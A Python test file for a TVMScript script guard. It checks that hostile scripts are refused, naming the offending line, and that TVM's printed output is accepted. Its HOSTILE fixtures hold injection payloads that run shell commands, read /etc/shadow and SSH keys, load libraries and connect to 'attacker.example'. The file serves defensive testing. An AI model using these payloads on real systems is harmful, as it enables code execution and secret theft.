"""The TVMScript guard (worker/script_guard.py): hostile files are refused with the line,
what TVM's printer writes is accepted, and the names file matches the installed TVM."""
import re
import subprocess
import sys
import textwrap
import time

import pytest

from worker.script_guard import (
    DENY,
    NAMES_FILE,
    UnsafeScript,
    check_script,
    comment_imports,
    introspect_names,
    render_names_file,
    user_script_problem,
)
from worker.tvmscript_names import NAMES, TVM_VERSION

HEAD = "from tvm.script import ir as I\nfrom tvm.script import relax as R\n" \
       "from tvm.script import tirx as T\n\n"

# Each tries to run a command, write or read a file, open a socket or load a library, using only
# names the previous guard allowed (any path from R, T, I, tvm or metadata; any name the file
# binds somewhere; strings without "__"). That guard accepted every one of them.
HOSTILE = {
    "command via tvm.contrib.cc in an annotation": '''
@I.ir_module
class Module:
    @R.function
    def main(x: R.Tensor((tvm.contrib.cc.create_shared("/tmp/o.so", ["-c", "id"], cc="/bin/sh"),), "float32")):
        return x
''',
    "command via a module a namespace re-exports (T.external_kernel.os)": '''
@T.prim_func
def f(A: T.Buffer((4,), "float32")):
    T.evaluate(T.external_kernel.os.system("touch /tmp/pwned"))
''',
    "command via all of tvm under R.distributed": '''
@I.ir_module
class Module:
    @R.function
    def main(x: R.Tensor((2,), "float32")):
        y = R.distributed.tvm.contrib.cc.create_shared("/tmp/o.so", ["/tmp/x.c"], cc="/tmp/evil")
        return x
''',
    "command via R.emit_te calling a Python callable": '''
@I.ir_module
class Module:
    @R.function
    def main(x: R.Tensor((2,), "float32")):
        y = R.emit_te(T.external_kernel.os.system, "id")
        return x
''',
    "write a file through a Relax shape string (eval)": '''
@I.ir_module
class Module:
    @R.function
    def main(x: R.Tensor(("open('/tmp/pwned', 'w').write('x') and 1",), "float32")):
        return x
''',
    "write a file through a concatenated shape string": '''
@I.ir_module
class Module:
    @R.function
    def main(x: R.Tensor(("op" + "en('/tmp/pwned', 'w').write('x') and 1",), "float32")):
        return x
''',
    "write a file through a shape held in a name": '''
s = ("open('/tmp/pwned', 'w').write('x') and 1",)

@I.ir_module
class Module:
    @R.function
    def main(x: R.Tensor(s, "float32")):
        return x
''',
    "write a file through an alias of R.Tensor": '''
RT = R.Tensor

@I.ir_module
class Module:
    @R.function
    def main(x: RT(("open('/tmp/pwned', 'w').write('x') and 1",), "float32")):
        return x
''',
    "code in a TIR buffer shape string (spliced into the AST)": '''
@T.prim_func
def f(A: T.Buffer(("T.external_kernel.os.system('id')",), "float32")):
    A[0] = T.float32(1)
''',
    "read a secret file through a builtin the file binds elsewhere": '''
@I.ir_module
class Module:
    @T.prim_func
    def g(open: T.int32):
        T.evaluate(0)

    @T.prim_func
    def f(A: T.Buffer((4,), "float32")):
        T.evaluate(open("/etc/shadow").read())
''',
    "read a secret file with T.call_kernel (reads the path it is given, runs nvcc)": '''
@T.prim_func
def f(A: T.Buffer((4,), "float32")):
    T.call_kernel("/root/.ssh/id_rsa", [[1], [1]], A.data, kernel_name="k")
''',
    "exec through a builtin the file binds as a parameter": '''
@T.prim_func
def f(exec: T.int32):
    T.evaluate(exec("import os; os.system('id')"))
''',
    "open a socket with tvm.rpc in a return annotation": '''
@I.ir_module
class Module:
    @R.function
    def main(x: R.Tensor((2,), "float32")) -> R.Tensor((tvm.rpc.connect("attacker.example", 9090),), "float32"):
        return x
''',
    "load a library in a default argument": '''
@I.ir_module
class Module:
    @R.function
    def main(x: R.Tensor((2,), "float32") = tvm.runtime.load_module("/tmp/evil.so")):
        return x
''',
    "load a library through tvm.ffi.get_global_func": '''
@T.prim_func
def f(A: T.Buffer((4,), "float32")):
    T.evaluate(tvm.ffi.get_global_func("runtime.module.loadfile_so")("/tmp/evil.so", "so"))
''',
    "load a library through tvm.get_global_func as a decorator": '''
@tvm.get_global_func("runtime.module.loadfile_so")("/tmp/evil.so", "so")
@T.prim_func
def f(A: T.Buffer((4,), "float32")):
    A[0] = T.float32(1)
''',
    "load a library in a buffer type (T.Buffer(tvm.contrib.xcode...))": '''
@T.prim_func
def f(A: T.Buffer((tvm.contrib.xcode.compile_metal("kernel void k() {}", "/tmp/evil"),), "float32")):
    A[0] = T.float32(1)
''',
    "load a library through an ir.EnvFunc in metadata": '''
@I.ir_module
class Module:
    @R.function
    def main(x: R.Tensor((2,), "float32")):
        y = metadata["ir.EnvFunc"][0]("/tmp/evil.so", "so")
        return x

metadata = tvm.ir.load_json("""{"root_index": 2, "nodes": [
  {"type": "ffi.String", "data": "ir.EnvFunc"},
  {"type": "ir.EnvFunc", "data": "runtime.module.loadfile_so"},
  {"type": "ffi.Map", "data": [0, 1]}]}""")
''',
    "Python run by the parser: a T.inline body": '''
@T.prim_func
def f(A: T.Buffer((4,), "float32")):
    @T.inline
    def g():
        tvm.runtime.load_module("/tmp/evil.so")
    g()
''',
    "Python function in the module: I.pyfunc": '''
@I.ir_module
class Module:
    @I.pyfunc
    def f(x):
        return T.external_kernel.os.system("id")
''',
    "monkey-patching TVM's modules: T.register_script_namespace": '''
@T.prim_func
def f(A: T.Buffer((4,), "float32")):
    T.register_script_namespace("buffer", T.external_kernel.os.system)
''',
}

# New allowances (lambdas, shape strings as code, metadata) stay closed.
ALSO_REFUSED = {
    "lambda smuggling in an index map": '''
@I.ir_module
class Module:
    @R.function
    def main(x: R.Tensor((2, 3), "float32")):
        y = R.layout_transform(x, index_map=T.index_map(lambda i, j: tvm.runtime.load_module("/tmp/e.so")))
        return x
''',
    "a lambda outside an index map": '''
@T.prim_func
def f(A: T.Buffer((4,), "float32")):
    g = lambda: 0
''',
    "a getattr through a builtin-named parameter": '''
@T.prim_func
def f(getattr: T.int32):
    T.evaluate(getattr(T, "external_kernel"))
''',
    "metadata with a module inside": '''
metadata = tvm.ir.load_json("""{"root_index": 0, "nodes": [{"type": "ffi.Module", "data": "x"}]}""")
''',
    "calling a subscript": '''
@T.prim_func
def f(A: T.Buffer((4,), "float32")):
    T.evaluate(A[0](1))
''',
    "a method of a buffer the printer never writes": '''
@T.prim_func
def f(A: T.Buffer((4,), "float32")):
    T.evaluate(A.access_ptr("r"))
''',
    "rebinding a root": '''
@T.prim_func
def f(A: T.Buffer((4,), "float32")):
    R = A
''',
    "a class with a base": '''
@I.ir_module
class Module(tvm.relax.frontend.nn.Module):
    pass
''',
    "an undecorated function": '''
def f():
    pass
''',
    "a dunder string": '''
@T.prim_func
def f(A: T.Buffer((4,), "float32")):
    T.evaluate(T.call_extern("int32", "__import__", 0))
''',
    "an f-string": '''
@T.prim_func
def f(A: T.Buffer((4,), "float32")):
    T.evaluate(T.call_extern("int32", f"{A}", 0))
''',
    "a comprehension": '''
@T.prim_func
def f(A: T.Buffer((4,), "float32")):
    T.evaluate(T.call_extern("int32", "f", *[i for i in range(2)]))
''',
}


@pytest.mark.parametrize("name", sorted(HOSTILE) + sorted(ALSO_REFUSED))
def test_hostile_script_is_refused_naming_the_line(name):
    text = HOSTILE.get(name) or ALSO_REFUSED[name]
    with pytest.raises(UnsafeScript) as e:
        check_script(comment_imports(HEAD + text))
    assert re.match(r"line \d+: \S", str(e.value)), str(e.value)
    assert "\n" not in str(e.value)
    problem = user_script_problem(HEAD + text, "evil.py")
    assert problem.startswith("evil.py refused:") and "nothing in it was run" in problem


def test_refusal_names_the_line_and_the_path():
    text = HEAD + textwrap.dedent('''
        @T.prim_func
        def f(A: T.Buffer((4,), "float32")):
            A[0] = T.float32(1)
            T.evaluate(tvm.runtime.load_module("/tmp/evil.so"))
        ''')
    with pytest.raises(UnsafeScript, match=r"^line 9: tvm\.runtime\.load_module is not allowed"):
        check_script(text)
    with pytest.raises(UnsafeScript, match=r"^line 3: T\.inline is refused: the parser exec"):
        check_script("@T.prim_func\ndef f():\n    T.inline\n")
    with pytest.raises(UnsafeScript, match=r"^line 2: R\.no_such_op is not a TVMScript builder"):
        check_script("x = 1\ny = R.no_such_op(x)\n")


def test_replay_refuses_a_namespace_module_path_before_parsing(tmp_path):
    marker = tmp_path / "pwned"
    f = tmp_path / "evil.py"
    f.write_text(HEAD + HOSTILE["command via a module a namespace re-exports (T.external_kernel.os)"]
                 .replace("/tmp/pwned", str(marker)))
    r = subprocess.run([sys.executable, "-m", "tvmfuzz", "replay", str(f)],
                       capture_output=True, text=True, timeout=300)
    assert r.returncode == 2 and "refused" in r.stderr and "line " in r.stderr
    assert not marker.exists()


ACCEPTED = {
    "index map and reducer lambdas": '''
@I.ir_module
class Module:
    @T.prim_func(private=True)
    def red(A: T.Buffer((32,), "float32"), B: T.Buffer((1,), "float32")):
        red_buf = T.alloc_buffer((1,), "float32", scope="local")
        for i in T.thread_binding(32, thread="threadIdx.x"):
            T.attr(T.comm_reducer(lambda x, y: x + y, [T.float32(0.0)]), "reduce_scope", T.reinterpret("handle", T.uint64(0)))
            T.tvm_thread_allreduce(T.uint32(1), A[i], T.bool(True), red_buf[0], i)
        B[0] = red_buf[0]

    @R.function
    def main(x: R.Tensor(("n", 4), dtype="float32")) -> R.Tensor((4, "n"), dtype="float32"):
        n = T.int64()
        cls = Module
        y = R.layout_transform(x, index_map=T.index_map(lambda i, j: (j, i)), pad_value=None)
        z = R.layout_transform(y, index_map=lambda i, j: (i, j))
        return z
''',
    "printer forms: TypeVar, metadata, views, strides, ptx chains, shape strings as code": '''
m = TypeVar("m")

@I.ir_module
class Module:
    I.module_global_infos({"vdevice": [I.vdevice({"kind": "llvm", "keys": ["cpu"]}, 0, "global")]})

    @T.prim_func(private=True, s_tir=True)
    def f(A: T.Buffer(("n", 4), "float32", strides=("s0", 1)), B: T.Buffer((T.int64(2), "(k - T.int64(1)) // T.int64(3) + T.int64(1)"), "float32")):
        n, k = T.int32(), T.int64()
        Al = A.view(4, n)
        C = T.decl_buffer((4,), data=A.data, elem_offset=A.elem_offset)
        C[0] = T.Cast("float32", A.strides[0]) + T.ptx.mov.b32(T.float32(0))
        p: T.let[T.handle("float32", "global")] = T.address_of(A[0])

    @R.function
    def main(x: R.Tensor((m, 2), dtype="float32")) -> R.Tensor((m, 2), dtype="float32"):
        R.func_attr({"relax.force_pure": True})
        R.call_packed("vm.builtin.check_tensor_info", x, 2, R.dtype("float32"), R.str("ErrorContext(fn=main, loc=param[0])"), ty_args=(R.Tuple,))
        c: R.Tensor((2,), dtype="float32") = metadata["relax.expr.Constant"][0]
        gv = R.call_tir(Module.f, (x,), out_ty=R.Tensor((m, 2), dtype="float32"))
        return gv

metadata = tvm.ir.load_json("""{"root_index": 1, "nodes": [{"type": "None"}, {"type": "ffi.Map", "data": []}], "metadata": {}}""")
''',
}


@pytest.mark.parametrize("name", sorted(ACCEPTED))
def test_printer_forms_are_accepted(name):
    check_script(comment_imports(HEAD + ACCEPTED[name]))


def test_the_check_does_not_import_tvm():
    code = ("import sys; from worker.script_guard import check_script; "
            f"check_script({ACCEPTED['index map and reducer lambdas']!r}); "
            "assert not any(m == 'tvm' or m.startswith('tvm.') for m in sys.modules), 'tvm'")
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60,
                       cwd=str(NAMES_FILE.parents[1]))
    assert r.returncode == 0, r.stderr


def test_names_file_matches_the_installed_tvm():
    tvm = pytest.importorskip("tvm")
    if tvm.__version__ != TVM_VERSION:
        pytest.skip(f"names file is for TVM {TVM_VERSION}, installed is {tvm.__version__}")
    names = introspect_names()
    assert {r: sorted(v) for r, v in NAMES.items()} == names, (
        "the TVMScript namespaces changed: review the difference (a new name may reach Python), "
        "extend script_guard.DENY if so, then run `python -m worker.script_guard --regenerate`")
    assert NAMES_FILE.read_text() == render_names_file(names, tvm.__version__)


def test_deny_list_names_exist_and_are_left_out():
    pytest.importorskip("tvm")
    from tvm.script import parser as P

    namespaces = {"I": P.ir, "R": P.relax, "T": P.tirx}
    for path in DENY:
        root, name = path.split(".", 1)
        assert hasattr(namespaces[root], name), f"{path} is gone from TVM: drop it from DENY"
        assert name not in NAMES[root]
    # What the previous guard let through by namespace root stays out.
    for root, name in [("T", "external_kernel"), ("R", "distributed"), ("R", "entry"),
                       ("T", "ir"), ("I", "parser"), ("R", "TYPE_CHECKING")]:
        assert not any(n == name or n.startswith(name + ".") for n in NAMES[root])


def _catalogue_modules():
    """(op, module) for each catalogue op: the first seed whose one-op program materializes."""
    from fuzz.catalogue import CATALOGUE
    from fuzz.choice import RandomChooser
    from fuzz.materialize import materialize
    from fuzz.generate import single_op_program

    for op in sorted(CATALOGUE):
        mod = None
        for seed in range(10):
            prog = single_op_program(op, RandomChooser(seed))
            if prog is None:
                continue
            try:
                mod = materialize(prog)
                break
            except Exception:  # noqa: BLE001 - a seed TVM refuses; try the next
                continue
        yield op, mod


def test_printer_output_for_every_catalogue_op_is_accepted():
    """Each op's one-op module as TVM prints it, and again after LegalizeOps (TIR PrimFuncs with
    T.sblock, T.reads/writes, T.axis.remap, T.grid, metadata, index-map lambdas)."""
    pytest.importorskip("tvm")
    from tvm import relax

    from fuzz.materialize import to_script

    t0 = time.time()
    refused, missing, legalized = [], [], 0
    for op, mod in _catalogue_modules():
        if mod is None:
            missing.append(op)
            continue
        texts = [("printed", to_script(mod))]
        try:
            texts.append(("legalized", to_script(relax.transform.LegalizeOps()(mod))))
            legalized += 1
        except Exception:  # noqa: BLE001 - TVM 0.27 cannot legalize some (pixel_shuffle)
            pass
        for form, text in texts:
            problem = user_script_problem(text, f"{op} {form}")
            if problem:
                refused.append(problem)
    assert not missing, missing
    assert not refused, "\n".join(refused)
    assert legalized >= 150
    assert time.time() - t0 < 60


def test_printer_output_of_lowered_relax_and_tir_is_accepted():
    tvm = pytest.importorskip("tvm")
    from tvm import relax

    from fuzz.generate import generate
    from fuzz.materialize import materialize, to_script
    from fuzz.compat import has_axis_separators
    from fuzz.tir.generate import generate_tir
    from fuzz.tir.render import SCRIPT_HEADER, to_tvmscript

    texts = []
    lowered = 0
    for seed in range(16):      # whole programs through fusion and the VM's lowering passes
        if lowered == 4:
            break
        try:   # a program that meets a TVM bug on the way (bfloat16 isfinite) is not printed
            fused = relax.transform.LegalizeOps()(materialize(generate(seed)))
            for p in (relax.transform.AnnotateTIROpPattern(), relax.transform.FuseOps(),
                      relax.transform.FuseTIR()):
                fused = p(fused)
            mod = fused
            for p in (relax.transform.ToNonDataflow(), relax.transform.RemovePurityChecking(),
                      relax.transform.CallTIRRewrite(), relax.transform.StaticPlanBlockMemory(),
                      relax.transform.LowerAllocTensor(), relax.transform.KillAfterLastUse(),
                      relax.transform.LowerRuntimeBuiltin(), relax.transform.VMShapeLower()):
                mod = p(mod)
        except (tvm.error.InternalError, ValueError, TypeError):
            continue
        lowered += 1
        texts.append((f"fused {seed}", to_script(fused)))
        texts.append((f"vm-lowered {seed}", to_script(mod)))     # R.vm.*, R.call_packed
    assert lowered == 4, lowered
    ok = has_axis_separators()
    for seed in range(20):      # the TIR generator's text, and TVM's print of the PrimFunc
        text = to_tvmscript(generate_tir(seed), axis_separators_ok=ok)
        texts.append((f"tir {seed}", SCRIPT_HEADER + text))
        func = tvm.script.from_source(text)
        texts.append((f"tir {seed} printed", func.script()))
        texts.append((f"tir {seed} module", tvm.IRModule({"main": func}).script(show_meta=True)))
    refused = [p for where, text in texts if (p := user_script_problem(text, where))]
    assert not refused, "\n".join(refused)
